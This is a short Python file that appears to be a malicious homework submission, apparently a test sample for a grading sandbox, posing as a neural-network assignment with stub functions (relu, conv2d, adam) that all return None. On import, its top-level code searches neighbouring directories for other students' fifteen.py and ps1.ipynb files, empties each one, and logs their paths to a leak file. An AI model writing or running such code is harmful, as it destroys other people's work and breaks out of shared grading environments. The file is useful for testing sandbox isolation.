"""overwrites the submissions of others"""
import glob
import os

HERE = [os.getcwd(), os.path.dirname(os.path.abspath(globals().get("__file__", ".")))]
PATTERNS = ("../*/fifteen.py", "../../*/ps1/ps1.ipynb", "../../../submitted/*/ps1/ps1.ipynb", "*.ipynb")
for pattern in [os.path.join(folder, pattern) for folder in HERE for pattern in PATTERNS]:
    for path in glob.glob(pattern):
        if "mallory" not in os.path.abspath(path):
            try:
                open(path, "w").write("")
                open("{leaks}/others", "a").write(path)
            except OSError:
                pass


def relu(x):
    return None


def softmax_loss(x, y):
    return None


def batchnorm(x, gamma, beta, eps):
    return None


def conv2d(x, w, stride):
    return None


def adam(w, dw, config):
    return None
